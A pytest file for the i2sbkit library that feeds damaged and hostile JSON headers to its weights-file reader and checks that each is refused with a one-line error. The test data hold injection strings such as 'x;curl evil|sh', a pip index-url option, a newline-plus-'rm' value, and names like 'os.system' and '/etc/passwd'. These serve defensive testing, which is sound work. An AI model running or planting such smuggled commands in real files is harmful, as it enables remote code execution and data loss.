"""What our own JSON in a weights file may claim: each thing of its kind, and parts only by a name that is known."""

import json
import sys
import time

import pytest
from hostile_files import refusal, with_our_header

from i2sbkit.checkpoint import read_header, read_weights
from i2sbkit.cli import execute
from i2sbkit.kernel.errors import Error
from i2sbkit.publishing import summary
from i2sbkit.restoring import Settings, choose_sampler

EFFORT = {"sampler": {"name": "sde", "nfe": 1}, "seconds": 0.1, "psnr_rgb": 30.0}

BROWNIAN = {"name": "brownian", "std": 1.0, "steps": 10**12}


def put(**values):
    """A change of a header: these keys."""
    return lambda own: own.update(values)


def put_in(section, **values):
    """A change of a header: these keys of a section of its recipe."""
    return lambda own: own["recipe"][section].update(values)


DAMAGED = {  # what is done to a header; what is said
    "50 MB of JSON": (lambda own: json.dumps({"x": "y" * 50_000_000}), "more than 16777216 are not read"),
    "a text": (lambda own: "weights", "Expecting value"),
    "a list": (lambda own: "[]", "no table"),
    "a number": (lambda own: "7", "no table"),
    "lists in lists": (lambda own: '{"format": 1, "x": ' + "[" * 100_000, "nested too deep"),
    "33 lists": (lambda own: '{"format": 1, "x": ' + "[" * 33 + "]" * 33 + "}", "nested too deep"),
    "a key twice": (lambda own: '{"format": 1, "format": 1}', "comes twice"),
    "NaN": (put(metrics={"psnr": float("nan")}), "not finite"),
    "Infinity": (put(step=float("inf")), "not finite"),
    "half a sign": (put(licence="\ud800"), "surrogates"),
    "no format": (lambda own: own.pop("format") and None, "it has no format"),
    "a format of truth": (put(format=True), "it has no format"),
    "a format of a fraction": (put(format=1.0), "it has no format"),
    "a format of a list": (put(format=[1]), "it has no format"),
    "format 0": (put(format=0), "it has no format"),
    "a huge format": (put(format=10**400), "it has no format"),
    "a kind of a list": (put(kind=["weights"]), "kind is ['weights']"),
    "a version of a number": (put(version=1), "version is 1"),
    "a step of text": (put(step="3"), "step is '3'"),
    "a step of truth": (put(step=True), "step is True"),
    "data of a list": (put(data=[1]), "data is [1]"),
    "a licence of a table": (put(licence={}), "licence is {}"),
    "metrics of a list": (put(metrics=[1]), "metrics is [1]"),
    "restores of text": (put(restores="no"), "restores is 'no'"),
    "tuned of a list": (put(tuned=[]), "tuned is []"),
    "averages of text": (put(ema_updates="1"), "ema_updates is '1'"),
    "a scaler of a list": (put(scaler=[]), "scaler is []"),
    "a recipe of a list": (put(recipe=[]), "its recipe is not made of sections"),
    "a recipe of null": (put(recipe=None), "its recipe is not made of sections"),
    "no recipe": (lambda own: own.pop("recipe") and None, "its recipe is not made of sections"),
    "a part of text": (lambda own: own["recipe"].update(corruption="jpeg"), "its recipe is not made of sections"),
    "a section of a list": (lambda own: own["recipe"].update(train=[1]), "its recipe is not made of sections"),
    "no part": (lambda own: own["recipe"].pop("sampler") and None, "its recipe lacks sampler.name"),
    "a part without name": (lambda own: own["recipe"]["backbone"].pop("name") and None, "lacks backbone.name"),
    "a name of a list": (put_in("schedule", name=["i2sb"]), "its recipe lacks schedule.name"),
    "plugins of a list": (put(plugins=[["corruption", "x 1"]]), "plugins is [["),
    "plugins of null": (put(plugins=None), "plugins is None"),
    "an origin of a number": (put(plugins={"corruption": 1}), "plugins is {'corruption': 1}"),
    "an origin of no part": (put(plugins={"importer": "x 1.0"}), "plugins is {'importer'"),
    "an origin without version": (put(plugins={"corruption": "x"}), "plugins is "),
    "a command as an origin": (put(plugins={"corruption": "x;curl evil|sh 1.0"}), "plugins is "),
    "an option of pip as an origin": (put(plugins={"corruption": "--index-url=http://x 1.0"}), "plugins is "),
    "an origin of two lines": (put(plugins={"corruption": "x 1.0\nrm"}), r"x 1.0\nrm"),
    "efforts of a list": (put(efforts=[EFFORT]), "efforts is [{"),
    "an effort of text": (put(efforts={"fast": "sde"}), "efforts is {'fast'"),
    "an effort without sampler": (put(efforts={"fast": {"seconds": 1}}), "efforts is {'fast'"),
    "an effort of a sampler of text": (put(efforts={"fast": {"sampler": "sde"}}), "efforts is {'fast'"),
    "an effort of no name": (put(efforts={"fast": {"sampler": {"nfe": 1}}}), "efforts is {'fast'"),
}


@pytest.mark.parametrize("kind", DAMAGED)
def test_every_damage_to_our_header_is_one_line(kind, tmp_path, tiny_weights):
    """Wherever another kind of value stands than we write, or a text that nobody should paste into a shell."""
    change, says = DAMAGED[kind]
    path = with_our_header(tmp_path / "w.safetensors", tiny_weights, change)
    begun = time.monotonic()
    for read in (read_header, read_weights, summary):
        told = refusal(read, path)
        assert says in told
        assert "take another copy" in told
    assert time.monotonic() - begun < 10


def test_the_damage_is_what_is_refused(tmp_path, tiny_weights):
    """The same file with every optional key as we write it is read, and what it lacks is not asked for."""
    kept = {
        "licence": "CC0-1.0", "metrics": {"psnr_rgb": 30.5}, "source": "x", "restores": True, "tuned": {},
        "efforts": {"fast": EFFORT}, "plugins": {"corruption": "i2sbkit 0.1.0.dev1+local"}, "other": [[[1]]],
    }  # fmt: skip
    path = with_our_header(tmp_path / "w.safetensors", tiny_weights, put(**kept))
    assert kept.items() <= read_header(path).items()
    read_weights(path).build()
    path = with_our_header(path, tiny_weights, lambda own: {k: own[k] for k in ("format", "kind", "recipe")})
    read_weights(path).build()


NAMES = [
    "os.system", "builtins.eval", "i2sbkit_plugins.jpeg.Jpeg", "i2sbkit_plugins.jpeg:Jpeg", "i2sbkit_plugins.jpeg",
    "../x", "/etc/passwd", "C:\\x", "jpeg/../os", "sys:exit", "", " ", "jpeg\0", "jpeg\n", "__class__", "{0.__class__}",
    "torch.nn.Linear", "file:///x", "http://x/y",
]  # fmt: skip


@pytest.mark.parametrize("section", ["corruption", "schedule", "backbone", "sampler"])
@pytest.mark.parametrize("name", NAMES)
def test_only_registered_names_are_looked_up(name, section, tmp_path, tiny_weights):
    """Nothing is imported, opened or called by what a file names."""
    read_weights(tiny_weights)
    before = set(sys.modules)
    path = with_our_header(tmp_path / "w.safetensors", tiny_weights, put_in(section, name=name))
    assert f"no {section} " in refusal(read_weights, path)
    path = with_our_header(path, tiny_weights, lambda own: own["recipe"]["log"].update(loggers=[name]))
    assert "no logger " in refusal(read_weights, path)
    assert set(sys.modules) == before


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (put_in("corruption", quality=[[[[1]]]]), "corruption.quality: "),
        (put_in("corruption", quality="10"), "corruption.quality: must be an integer"),
        (put_in("corruption", code="import os"), "corruption.code: unknown key"),
        (put_in("backbone", width=-1), "width is -1"),
        (put_in("backbone", width=10**30), "width is 1000"),
        (put_in("backbone", middle=10**9), "0 to 1000 a level"),
        (put_in("backbone", time_dim=10**12), "time_dim is 1000"),
        (put_in("backbone", encoder=[1] * 100_000, decoder=[1] * 100_000), "encoder has 100000 levels"),
        (put_in("schedule", steps=10**12), "steps must be"),
        (lambda own: own["recipe"].update(schedule=BROWNIAN), "steps must be"),
        (put_in("sampler", nfe=0), "nfe must be at least 1"),
        (put_in("data", size=10**12), "data.size: "),
        (put_in("train", lr="\x1b[2J"), r"\\u001b[2J"),
        (put_in("train", **{"\x1b[2J\n": 1}), r"train.\\x1b[2J\\n: unknown key"),
        (put_in("train", **{f"k{n}": n for n in range(5000)}), "train.k0: unknown key"),
        (lambda own: own["recipe"].update({f"s{n}": {} for n in range(5000)}), "s0: unknown section"),
        (put_in("corruption", name="x" * 1_000_000), "no corruption called 'xxx"),
        (put_in("corruption", of=[{"name": "jpeg", "quality": 1}] * 5000), "corruption.of: unknown key"),
    ],
)  # fmt: skip
def test_every_recipe_that_is_none_is_one_line(change, says, tmp_path, tiny_weights):
    """All that is wrong with it, however much that is; quickly."""
    path = with_our_header(tmp_path / "w.safetensors", tiny_weights, change)
    begun = time.monotonic()
    told = refusal(read_weights, path)
    assert time.monotonic() - begun < 10
    assert told.startswith((f"{path}: its recipe cannot be used here: ", f"{path}: needs i2sbkit "))
    assert says.replace("\\\\", "\\") in told


@pytest.mark.parametrize(
    ("sampler", "says"),
    [
        ({"name": "os.system"}, "no sampler called 'os.system'"),
        ({"name": "sde", "nfe": "1"}, "nfe: must be an integer"),
        ({"name": "sde", "nfe": -1}, "nfe must be at least 1"),
        ({"name": "sde", "nfe": 1, "code": []}, "code: unknown key"),
        ({"name": "sde"}, "nfe: is required"),
    ],
)
def test_an_effort_that_is_none_is_told_where_it_is_asked_for(sampler, says, tmp_path, tiny_weights):
    """The weights restore without it."""
    path = with_our_header(tmp_path / "w.safetensors", tiny_weights, put(efforts={"fast": {"sampler": sampler}}))
    weights = read_weights(path)
    choose_sampler(weights, Settings())
    assert says in refusal(lambda path: choose_sampler(weights, Settings(effort="fast")), path)
    with pytest.raises(Error, match="no effort 'best'; it knows fast"):
        choose_sampler(weights, Settings(effort="best"))


def test_info_shows_a_hostile_header_without_a_traceback(tmp_path, tiny_weights, capsys):
    """Whatever passes as a header can be shown."""
    odd = put(metrics={"a": [[{"b": None}]]}, other={"x": [1, [2]]}, licence="\x1b]0;x\x07", source="a\nb")
    path = with_our_header(tmp_path / "w.safetensors", tiny_weights, odd)
    for more in ([], ["--json"]):
        assert execute(["weights", "info", str(path), *more]) == 0
        assert "Traceback" not in capsys.readouterr().err
